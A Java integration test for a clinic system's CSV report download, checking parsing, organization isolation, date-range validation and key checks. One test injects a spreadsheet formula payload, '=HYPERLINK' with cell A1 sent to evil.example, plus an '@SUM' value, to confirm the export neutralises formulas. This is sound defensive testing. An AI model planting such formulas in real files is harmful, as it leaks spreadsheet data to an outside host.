package org.caregate.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.caregate.it.Api.data;
import static org.caregate.it.Api.json;
import static org.caregate.it.Api.rest;
import static org.caregate.it.Api.vars;

import jakarta.json.JsonObject;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Solo's CSV data download (seed 004 "Reports", {@code GET /qapi/v1/reports/csv-data-dump?from&to}) over HTTP:
 * the report parsed back with Commons CSV, cells a spreadsheet would run neutralised, an empty range, refused
 * ranges in Solo's error shape, another organization's visits never in it, and no key refused.
 */
class ReportsIT {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    private static Clinic clinic;
    private static Clinic otherClinic;
    private static LocalDate day;
    private static long midnight;
    private static String room;
    private static String otherRoom;
    private static int slot;

    @BeforeAll
    static void practices() {
        clinic = Clinic.open("UTC");
        otherClinic = Clinic.open("UTC");
        day = LocalDate.now(ZoneOffset.UTC).plusDays(3);
        midnight = day.atStartOfDay(ZoneOffset.UTC).toEpochSecond();
        clinic.once(clinic.providerId, day, "00:00", "23:55");
        otherClinic.once(otherClinic.providerId, day, "00:00", "23:55");
        room = waitingRoom(clinic);
        otherRoom = waitingRoom(otherClinic);
    }

    @Test
    void theOrganizationsVisitsParseBackWithFormulasNeutralised() throws IOException {
        long spid = patient(clinic, "EHR-" + Api.unique());
        String plainExternal = UUID.randomUUID().toString();
        long start = nextSlot();
        long plain = book(clinic, room, spid, start, plainExternal, "cough");
        long hostile = book(clinic, room, spid, nextSlot(), HYPERLINK, "@SUM(1+1)");
        long theirs = book(otherClinic, otherRoom, patient(otherClinic, "EHR-" + Api.unique()), nextSlot(),
                UUID.randomUUID().toString(), "fever");

        HttpResponse<String> answer = report(clinic.key, day.toString(), day.toString());
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        assertThat(answer.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/octet-stream");
        assertThat(answer.headers().firstValue("Content-Disposition").orElseThrow()).startsWith("attachment");

        CSVParser parser = parse(answer.body());
        assertThat(parser.getHeaderNames()).containsExactly("appointment_id", "external_id", "account_number",
                "start", "end", "timezone", "length_minutes", "status", "contact_type", "appointment_type",
                "waiting_room_id", "provider_id", "additional_provider_ids", "patient_spid", "patient_mrn",
                "episode_id", "has_notes", "reasons", "created_at", "video_call_status", "patient_minutes",
                "provider_minutes");
        Map<Long, CSVRecord> rows = parser.getRecords().stream()
                .collect(Collectors.toMap(r -> Long.parseLong(r.get("appointment_id")), Function.identity()));
        assertThat(rows).containsKeys(plain, hostile).doesNotContainKey(theirs);

        CSVRecord first = rows.get(plain);
        assertThat(first.get("external_id")).isEqualTo(plainExternal);
        assertThat(OffsetDateTime.parse(first.get("start")).toEpochSecond()).isEqualTo(start);
        assertThat(OffsetDateTime.parse(first.get("end")).toEpochSecond()).isGreaterThan(start);
        assertThat(first.get("patient_spid")).isEqualTo(String.valueOf(spid));
        assertThat(first.get("patient_mrn")).isEqualTo("MRN-123");
        assertThat(first.get("provider_id")).isEqualTo(String.valueOf(clinic.providerId));
        assertThat(first.get("reasons")).isEqualTo("cough");
        assertThat(first.get("has_notes")).isEqualTo("false");
        assertThat(first.get("status")).isNotBlank();

        CSVRecord second = rows.get(hostile);
        assertThat(second.get("external_id")).as("a formula is text").isEqualTo("'" + HYPERLINK);
        assertThat(second.get("reasons")).isEqualTo("'@SUM(1+1)");
        assertThat(answer.body()).doesNotContain("\n=").doesNotContain(",=").doesNotContain("\"=");

        List<CSVRecord> theirRows = parse(report(otherClinic.key, day.toString(), day.toString()).body()).getRecords();
        assertThat(theirRows).extracting(r -> Long.parseLong(r.get("appointment_id"))).contains(theirs)
                .doesNotContain(plain, hostile);

        HttpResponse<String> year = report(clinic.key, day.minusDays(365).toString(), day.toString());
        assertThat(year.statusCode()).as("366 days, both included").isEqualTo(200);
        assertThat(parse(year.body()).getRecords()).extracting(r -> Long.parseLong(r.get("appointment_id")))
                .contains(plain, hostile).doesNotContain(theirs);
    }

    @Test
    void anEmptyRangeIsTheHeaderAlone() throws IOException {
        HttpResponse<String> answer = report(clinic.key, "2001-01-01", "2001-01-31");
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        CSVParser parser = parse(answer.body());
        assertThat(parser.getRecords()).isEmpty();
        assertThat(parser.getHeaderNames()).hasSize(22);
    }

    @Test
    void refusesMissingUnreadableReversedAndTooLongRanges() {
        assertRefused(rest("GET", "/qapi/v1/reports/csv-data-dump", clinic.key, null),
                "Bad parameters [from: This value should not be blank. to: This value should not be blank.]");
        assertRefused(report(clinic.key, "2020-02-10", null), "Bad parameters [to: This value should not be blank.]");
        assertRefused(report(clinic.key, "2020-02-30", "1581292800"),
                "Bad parameters [from: This value is not a valid date. to: This value is not a valid date.]");
        assertRefused(report(clinic.key, "2020-02-11", "2020-02-10"), "Bad parameters [to: must not be before from.]");
        assertRefused(report(clinic.key, "2020-01-01", "2021-01-01"),
                "Bad parameters [to: must be at most 366 days from from, both included.]");
        assertRefused(report(clinic.key, "x".repeat(5000), "2020-01-01"),
                "Bad parameters [from: This value is not a valid date.]");
    }

    @Test
    void withoutAKeyNothingIsReported() {
        assertThat(report(null, "2020-02-10", "2020-02-11").statusCode()).isEqualTo(401);
        assertThat(report("not-a-key", "2020-02-10", "2020-02-11").statusCode()).isEqualTo(401);
    }

    private static HttpResponse<String> report(String key, String from, String to) {
        StringBuilder path = new StringBuilder("/qapi/v1/reports/csv-data-dump?from=").append(from);
        if (to != null) {
            path.append("&to=").append(to);
        }
        return rest("GET", path.toString(), key, null);
    }

    static CSVParser parse(String body) {
        try {
            return CSVParser.parse(body, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static String waitingRoom(Clinic at) {
        String name = "Reports " + Api.unique();
        JsonObject created = data(at.key, """
                mutation($n: String, $p: [String]) { createWaitingRoom(input: {name: $n, service_line: "Neurology",
                  service_type: "Demo", slot_duration: 900, provider_ids: $p}) {
                  waitingRoom { id } messages { field message } } }""",
                vars("n", name, "p", Clinic.ids(at.providerId))).getJsonObject("createWaitingRoom");
        assertThat(created.isNull("messages")).as(created.toString()).isTrue();
        return name;
    }

    static long patient(Clinic at, String ehrId) {
        HttpResponse<String> created = rest("POST", "/qapi/v1/patients", at.key,
                SoloPatientsIT.seedPatient(ehrId, ehrId.toLowerCase() + "@example.org"));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(200);
        return Long.parseLong(created.body());
    }

    static long book(Clinic at, String waitingRoom, long spid, long date, String externalId, String reason) {
        HttpResponse<String> booked = rest("POST", "/qapi/v1/patients/id/type/SPID/value/" + spid + "/appointments",
                at.key, Json.object("waitingRoom", waitingRoom, "reasons", List.of(reason), "date", date,
                        "externalId", externalId, "accountNumber", "ACC-1"));
        assertThat(booked.statusCode()).as(booked.body()).isEqualTo(200);
        return json(booked.body()).getJsonNumber("id").longValue();
    }

    private static synchronized long nextSlot() {
        return midnight + 900L * slot++;
    }

    private static void assertRefused(HttpResponse<String> answer, String message) {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
        assertThat(json(answer.body()).getJsonObject("error").getString("message")).isEqualTo(message);
    }

    /** A JSON body from names and values, escaping strings (the hostile external id has quotes). */
    private static final class Json {
        static String object(Object... namesAndValues) {
            var builder = jakarta.json.Json.createObjectBuilder();
            for (int i = 0; i < namesAndValues.length; i += 2) {
                String name = (String) namesAndValues[i];
                Object value = namesAndValues[i + 1];
                if (value instanceof Long number) {
                    builder.add(name, number);
                } else if (value instanceof List<?> list) {
                    var array = jakarta.json.Json.createArrayBuilder();
                    list.forEach(item -> array.add(item.toString()));
                    builder.add(name, array);
                } else {
                    builder.add(name, value.toString());
                }
            }
            return builder.build().toString();
        }
    }
}
